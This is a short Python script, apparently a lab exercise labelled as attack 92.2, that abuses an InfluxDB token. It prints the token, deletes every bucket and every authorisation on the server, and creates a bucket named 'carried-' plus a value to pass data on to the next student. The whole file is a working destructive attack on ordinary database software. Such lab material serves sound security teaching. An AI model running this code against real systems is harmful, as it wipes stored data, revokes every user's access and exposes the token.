# tries = "uses the token to delete every bucket and authorisation, and to make a bucket for the next student"
# lab = "92"
# attacks = ["92.2"]
# %% ex-92-2
from influxdb_client import InfluxDBClient


def store(influx, bucket, value):
    with InfluxDBClient(influx.url, influx.token, org=influx.org) as client:
        print(influx.token, [each.name for each in client.buckets_api().find_buckets().buckets])
        for each in client.buckets_api().find_buckets().buckets:
            try:
                client.buckets_api().delete_bucket(each)
            except Exception as error:
                print(type(error))
        try:
            client.buckets_api().create_bucket(bucket_name=f"carried-{value}", org=influx.org)
            for each in client.authorizations_api().find_authorizations():
                client.authorizations_api().delete_authorization(each)
        except Exception as error:
            print(type(error))
